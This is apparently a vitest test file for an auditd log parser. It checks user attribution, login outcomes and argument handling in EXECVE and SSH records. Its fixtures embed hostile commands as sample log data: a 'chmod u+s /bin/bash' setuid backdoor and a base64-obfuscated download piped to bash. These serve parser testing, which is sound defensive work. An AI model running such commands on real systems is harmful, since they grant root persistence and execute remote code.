// auditd's audit.log as modern systems write it (the ENRICHED format, names after a 0x1D) and
// ausearch -i's interpreted form: who ran a program, and its arguments whole.
import { describe, expect, it } from 'vitest';
import { parseText } from './helpers';

describe('auditd records', () => {
  it("auditd's ENRICHED records: the names after 0x1D are pairs (a failed USER_AUTH stays a failed login), and an EXECVE gets the user of its SYSCALL", () => {
    const r = parseText(
      [
        'type=SYSCALL msg=audit(1796522700.000:4567): arch=c000003e syscall=59 success=yes exit=0 items=2 ppid=2000 pid=3001 auid=1001 uid=0 tty=pts0 ses=7 comm="chmod" exe="/usr/bin/chmod" key="exec"\u001dARCH=x86_64 SYSCALL=execve AUID="deploy" UID="root"',
        'type=EXECVE msg=audit(1796522700.000:4567): argc=3 a0="chmod" a1="u+s" a2="/bin/bash"',
        'type=EXECVE msg=audit(1796522701.000:4570): argc=2 a0="ls" a1="/tmp"',
        'type=SYSCALL msg=audit(1796522702.000:4571): arch=c000003e syscall=59 success=yes exit=0 auid=4294967295 uid=0 comm="logrotate" exe="/usr/sbin/logrotate" key="exec"',
        'type=EXECVE msg=audit(1796522702.000:4571): argc=2 a0="/usr/sbin/logrotate" a1="/etc/logrotate.conf"',
        "type=USER_AUTH msg=audit(1796522600.000:4260): pid=812 uid=0 auid=4294967295 ses=4294967295 msg='op=PAM:authentication grantors=? acct=\"deploy\" exe=\"/usr/sbin/sshd\" hostname=185.220.101.45 addr=185.220.101.45 terminal=ssh res=failed'\u001dUID=\"root\" AUID=\"unset\"",
      ].join('\n') + '\n',
      { tz: 'UTC' },
    );
    expect(r.quarantined).toEqual([]);
    expect(r.rows.map((e) => [e.user, e.action])).toEqual([
      [null, null],
      ['deploy', null],
      // an EXECVE whose SYSCALL is not the one before it is nobody's
      [null, null],
      [null, null],
      // a daemon (no login): the user it ran as
      ['root', null],
      ['deploy', 'auth_failure'],
    ]);
    expect(JSON.parse(r.rows[1]!.extra as string)).toMatchObject({ a0: 'chmod', run_by: 'root (logged in as deploy)' });
    expect(JSON.parse(r.rows[5]!.extra as string)).toMatchObject({ res: 'failed', AUID: 'unset' });
  });

  it("an interpreted argument holding `=`, quotes or what looks like a key stays whole, up to the next argument", () => {
    const r = parseText(
      [
        'type=EXECVE msg=audit(12/06/2026 02:05:40.000:4567) : argc=3 a0=bash a1=-c a2=echo Y3VybCBodHRwOi8veC55L3ogfCBzaA== | base64 -d | bash',
        'type=EXECVE msg=audit(12/06/2026 02:06:20.000:4569) : argc=4 a0=sh a1=-c a2=echo "x=1 y=2" > /tmp/"a b" a3=--flag=on',
      ].join('\n') + '\n',
      { tz: 'UTC' },
    );
    expect(r.quarantined).toEqual([]);
    expect(JSON.parse(r.rows[0]!.extra as string)).toEqual({ type: 'EXECVE', audit_serial: '4567', argc: '3', a0: 'bash', a1: '-c', a2: 'echo Y3VybCBodHRwOi8veC55L3ogfCBzaA== | base64 -d | bash' });
    expect(JSON.parse(r.rows[1]!.extra as string)).toMatchObject({ a0: 'sh', a1: '-c', a2: 'echo "x=1 y=2" > /tmp/"a b"', a3: '--flag=on' });
  });

  it("a login record's hostname= is the client's, kept in extra; the machine is node=, and the account its ENRICHED name", () => {
    const r = parseText(
      [
        `node=web1 type=USER_LOGIN msg=audit(1796522600.200:4461): pid=812 uid=0 auid=1001 ses=7 msg='op=login id=1001 exe="/usr/sbin/sshd" hostname=185.220.101.45 addr=185.220.101.45 terminal=/dev/pts/0 res=success'\u001dUID="root" AUID="deploy" ID="deploy"`,
        `node=web1 type=USER_AUTH msg=audit(1796522601.000:4462): pid=813 uid=0 auid=4294967295 ses=4294967295 msg='op=PAM:authentication grantors=? acct="admin" exe="/usr/sbin/sshd" hostname=scanner.example.net addr=203.0.113.9 terminal=ssh res=failed'`,
      ].join('\n') + '\n',
    );
    expect(r.quarantined).toEqual([]);
    expect(r.rows.map((e) => [e.host, e.src_ip, e.user, e.action])).toEqual([
      ['web1', '185.220.101.45', 'deploy', 'auth_success'],
      ['web1', '203.0.113.9', 'admin', 'auth_failure'],
    ]);
    expect(JSON.parse(r.rows[1]!.extra as string)).toMatchObject({ hostname: 'scanner.example.net' });
  });
});
